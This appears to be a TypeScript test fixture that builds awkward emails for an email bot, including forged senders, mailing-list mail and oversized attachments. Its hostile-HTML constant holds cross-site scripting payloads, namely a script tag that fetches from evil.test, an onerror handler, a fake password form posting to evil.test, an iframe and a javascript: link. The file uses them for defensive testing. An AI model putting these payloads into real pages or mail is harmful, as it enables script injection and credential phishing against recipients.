/** Prepared emails that are difficult to handle. */
import type { MailFile, WrittenMail } from '@botyard/testing/mailer/types';

type Piece = { name: string; shows: string };

/** HTML that a page or an email client must never run. */
const hostileHtml = [
  '<script>window.pwned = true; fetch("http://evil.test/script")</script>',
  '<img src="http://evil.test/pixel.png" onerror="window.pwned = true">',
  '<form action="http://evil.test/form" method="post"><input name="password"><button>Log in again</button></form>',
  '<iframe src="http://evil.test/frame"></iframe><a href="javascript:window.pwned = true">Look</a>',
].join('');
const elsewhere: [string, string] = ['Reply-To', 'victim@harbour.test'];

const pieces: Record<string, Piece & { change: (mail: WrittenMail) => WrittenMail }> = {
  'html-only': {
    name: 'HTML only',
    shows: 'No plain text: the bot has to read the HTML',
    change: ({ text = '', ...mail }) => ({
      ...mail,
      html: `<div>${paragraph(text)}<p><b>Sent from my phone</b></p></div>`,
    }),
  },
  list: {
    name: 'From a mailing list',
    shows: 'The bot does not answer',
    change: (mail) => ({
      ...mail,
      headers: [
        ['List-Id', '<news.harbour.test>'],
        ['Precedence', 'bulk'],
      ],
    }),
  },
  forged: {
    name: 'Forged sender',
    shows: "SPF and DKIM don't prove the sender: the email is held",
    change: (mail) => ({
      ...mail,
      sender: 'mallory@evil.test',
      html: hostileHtml,
      headers: [elsewhere],
      results: [
        ['X-Mailgun-Spf', 'Pass'],
        ['X-Mailgun-Dkim-Check-Result', 'Fail'],
      ],
    }),
  },
  hostile: {
    name: 'Hostile HTML',
    shows:
      "Scripts, pictures, forms and another person's Reply-To: shown as text, and the answer goes to the sender",
    change: (mail) => ({
      ...mail,
      html: paragraph(mail.text ?? '') + hostileHtml,
      headers: [elsewhere],
      results: [['X-Mailgun-Spf', 'Pass']],
    }),
  },
  'eleven-files': {
    name: 'Eleven attachments',
    shows: 'One more than allowed: rejected',
    change: (mail) => ({
      ...mail,
      files: Array.from({ length: 11 }, (_, index) => fileOf(`${index + 1}.txt`, 5)),
    }),
  },
  'big-file': {
    name: 'A 26 MB file',
    shows: 'Larger than allowed: rejected',
    change: (mail) => ({ ...mail, files: [fileOf('big.bin', 26 * 1024 * 1024)] }),
  },
};

export const listOfPieces = Object.entries(pieces).map(([piece, { name, shows }]) => ({
  piece,
  name,
  shows,
}));

/** Returns `undefined` for an unknown name. */
export function asPiece(piece: string, mail: WrittenMail): WrittenMail | undefined {
  return Object.hasOwn(pieces, piece) ? pieces[piece]?.change(mail) : undefined;
}

const paragraph = (text: string): string =>
  `<p>${text.replace(/[&<]/g, (sign) => (sign === '&' ? '&amp;' : '&lt;'))}</p>`;

function fileOf(name: string, sizeBytes: number): MailFile {
  return { name, contentType: 'application/octet-stream', content: Buffer.alloc(sizeBytes, 'x') };
}
